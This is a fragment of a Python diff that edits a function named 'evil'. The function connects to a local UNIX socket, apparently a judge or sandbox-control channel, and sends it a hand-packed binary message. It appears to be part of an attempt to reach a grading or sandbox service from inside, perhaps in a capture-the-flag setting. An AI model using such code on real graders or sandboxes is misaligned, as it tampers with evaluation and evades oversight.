@@ -10,7 +10,7 @@ def evil(*args):
         s = socket.socket(socket.AF_UNIX)
         s.settimeout(0.2)
         try:
-            s.connect("/channel/judge.sock")
+            s.connect(door())
             data = b"l\0\0\0\2s\0\0\0\6zygotes\0\0\0\0"
             s.sendall(struct.pack(">I", len(data)) + data)
         except OSError:
